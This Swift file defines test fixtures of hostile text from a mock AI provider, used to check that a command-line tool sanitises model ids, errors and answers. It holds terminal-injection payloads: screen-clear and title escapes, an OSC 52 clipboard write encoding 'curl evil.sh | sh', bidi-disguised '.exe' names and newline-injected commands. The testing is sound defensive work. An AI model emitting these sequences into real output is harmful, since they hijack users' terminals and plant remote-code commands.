/// The text a hostile provider sends (issue 8).
///
/// Terminal control, bidi overrides, newlines and glob characters in ids, names,
/// errors and answers, and error messages that echo the key. Public so that
/// tests can look for it in cherry's output.
public enum DemoHostileText {
  /// Model ids that each carry one attack, listed by ``DemoHostility/escapes``.
  ///
  /// Clear screen, window title (OSC 0), clipboard (OSC 52, `curl evil.sh | sh`
  /// in base64), a carriage return that overwrites the line, a right-to-left
  /// override, a newline followed by a command (replayed by a naive `dump`), glob
  /// characters, an 8-bit CSI, a bell with backspaces.
  public static let modelIDs: [String] = [
    "clear-\u{1B}[2J\u{1B}[H",
    "title-\u{1B}]0;pwned-title\u{07}",
    "clip-\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{07}",
    "safe-model\rEVIL-OVERWRITE",
    "bidi-\u{202E}txt.exe",
    "newline\nheader set X-Injected yes",
    "glob-[a]*?",
    "csi8-\u{9B}31mred",
    "bell-\u{07}\u{08}\u{08}",
  ]

  /// Ends every error message of a style under ``DemoHostility/escapes``.
  public static let errorText =
    " \u{1B}]0;pwned-title\u{07}\u{1B}[2J\rEVIL\u{202E}gnp.exe\nsecond line"
    + "\u{1B}]52;c;Y3VybCBldmlsLnNo\u{07}"

  /// Ends every answer under ``DemoHostility/escapes``.
  public static let answerText = " \u{1B}[2J\u{1B}]0;pwned-answer\u{07}\r\u{202E}reversed"

  /// The characters that must never reach a terminal raw from provider text:
  /// ESC, BEL, backspace, CR, the 8-bit CSI and the right-to-left override.
  public static let controlScalars: Set<Unicode.Scalar> = [
    "\u{1B}", "\u{07}", "\u{08}", "\r", "\u{9B}", "\u{202E}",
  ]

  /// The length of an echoing error message when the key fits in it.
  public static let echoLength = 300

  /// An error message that echoes a key, as some providers do.
  ///
  /// The key starts at character `offset` (at least 28, after
  /// `Incorrect API key provided: `), inside a message of ``echoLength``
  /// characters, or longer when the key does not fit. The default offset of
  /// ``DemoHostility/echoKey(offset:)`` in tests, 290, puts a 20-character key
  /// across character 300, where a message cut before being masked leaks most of it.
  ///
  /// - Parameters:
  ///   - key: The key the request carried (empty for none).
  ///   - offset: Where the key starts, in characters.
  /// - Returns: The message (ASCII apart from the key).
  public static func echo(key: String, offset: Int) -> String {
    let lead = "Incorrect API key provided: "
    var text = filler(max(0, offset - lead.count)) + lead + key
    text += ". You can find your API key in your account settings."
    let length = text.count
    if length < echoLength { text += filler(echoLength - length) }
    return text
  }

  /// `count` characters of plain prose.
  private static func filler(_ count: Int) -> String {
    let sentence = "The request was refused. "
    let repeated = String(repeating: sentence, count: count / sentence.count + 1)
    return String(repeated.prefix(count))
  }
}
